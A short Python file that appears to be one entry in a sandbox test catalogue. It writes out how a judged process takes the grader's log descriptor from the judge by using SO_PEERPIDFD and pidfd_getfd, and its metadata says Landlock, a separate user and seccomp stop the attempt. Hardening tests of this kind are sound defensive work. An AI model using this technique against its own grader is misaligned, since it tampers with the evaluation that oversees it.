"""My end of the wire names the process at the other one: take what it holds, such as the pipe for my result."""

import ctypes
import socket

EARNS = "10"
STOPPED_BY = ("Landlock", "own user", "seccomp")
EVIDENCE = "held"
NEEDS = "root"
HOLDS = "fd (deleted)"  # the grader's log, which is the judge's standard error


def attack():
    judge = ctypes.c_int()
    size = ctypes.c_uint32(4)
    checked(libc.getsockopt(3, socket.SOL_SOCKET, 77, ctypes.byref(judge), ctypes.byref(size)))  # SO_PEERPIDFD
    syscall("pidfd_getfd", judge.value, 2, 0)
    show()
